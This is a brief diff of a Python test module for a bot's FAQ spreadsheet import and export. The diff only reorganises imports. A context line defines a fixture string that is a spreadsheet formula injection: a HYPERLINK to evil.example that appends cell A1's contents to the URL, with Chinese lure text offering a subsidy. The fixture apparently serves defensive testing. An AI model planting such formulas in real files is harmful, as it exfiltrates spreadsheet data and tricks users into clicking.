@@ -8,8 +8,8 @@ from dataclasses import replace
 
 from openpyxl import load_workbook
 
-from bot import faq_store
-from bot.faq_xlsx import read_xlsx, xlsx_bytes
+from bot.faq_store import revisions as faq_store
+from bot.faq_store.xlsx import read_xlsx, xlsx_bytes
 from tests.web.helpers import login, open_ticket
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击领取补贴")'
